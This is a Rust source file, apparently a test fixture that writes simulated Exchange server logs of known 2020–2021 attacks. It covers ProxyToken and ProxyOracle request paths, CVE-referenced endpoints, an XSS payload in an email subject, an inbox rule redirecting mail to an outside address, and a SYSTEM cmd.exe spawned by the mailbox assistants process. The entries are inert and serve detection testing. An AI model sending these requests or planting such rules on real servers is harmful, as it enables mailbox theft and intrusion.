//! Ways in of 2020 and 2021 beside the great chains, of each as much as a server's logs keep.

use super::led::{self, Led};
use super::{AGENT, INTRUDER};
use crate::calendar::{MINUTE, SECOND};
use crate::logs::events::{self, Process};
use crate::logs::http_proxy::Protocol;
use crate::logs::transport::{self, Message};
use crate::server::Server;
use afterpatch_model::Timestamp;

/// Requests: who asks, how, for what, with which answer. Nothing in them does anything.
const REQUESTS: &[Led<'static>] = &[
    // A rule is made without a logon (`ProxyToken`).
    led(
        Protocol::Ecp,
        "",
        "POST",
        "/ecp/user@example.org/RulesEditor/InboxRules.svc/NewObject",
        "msExchEcpCanary=x",
    ),
    // A script stands in the address of the page that tells of errors (`ProxyOracle`).
    led(Protocol::Owa, "", "GET", "/owa/auth/frowny.aspx", "app=people&te=%5C&refurl=x;document.cookie"),
    // A template of policies is handed in (CVE-2020-16875, CVE-2020-17132).
    led(Protocol::Ecp, r"EXAMPLE\d.novak", "POST", "/ecp/DLPPolicy/ManagePolicyFromISV.aspx", ""),
    // A request to the calendar that others see (CVE-2021-28480).
    led(Protocol::Owa, "", "POST", "/owa/calendar/aaaa/", ""),
];

const fn led(
    protocol: Protocol,
    user: &'static str,
    method: &'static str,
    stem: &'static str,
    query: &'static str,
) -> Led<'static> {
    Led { protocol, method, stem, query, user, client: INTRUDER, agent: AGENT, status: 200 }
}

/// Plays one of each, ten minutes apart, and what the first of them makes.
pub(crate) fn try_all(server: &mut Server, start: Timestamp) {
    for (step, request) in (0_i64..).zip(REQUESTS) {
        led::log(server, start.plus(step * 10 * MINUTE), request);
    }
    let rule = "-Mailbox \"user@example.org\" -Name \".\" -RedirectTo \"copy@example.net\"";
    events::log_cmdlet(server, start.plus(2 * SECOND), "New-InboxRule", rule);
}

/// Plays a message whose subject a browser would run (the flaws of Outlook on the web of 2026).
pub(crate) fn send_script(server: &mut Server, time: Timestamp) {
    let message = Message {
        id: "<inert@example.net>",
        session: "08D8DD0000000001",
        sender: "news@example.net",
        recipient: "a.tanaka@example.org",
        subject: "Invoice <img src=x onerror=example()>",
        client: "198.51.100.77",
        bytes: 2_300,
    };
    transport::log_received(server, time, &message);
}

/// Plays what an object in a setting of a mailbox starts (CVE-2020-17144).
pub(crate) fn start_by_assistant(server: &mut Server, time: Timestamp) {
    let process = Process {
        image: r"C:\Windows\System32\cmd.exe",
        command_line: "cmd.exe /c hostname",
        parent_image: &server.installed(r"Bin\MSExchangeMailboxAssistants.exe"),
        parent_command_line: "MSExchangeMailboxAssistants.exe",
        user: r"NT AUTHORITY\SYSTEM",
    };
    events::log_process(server, time, &process);
}
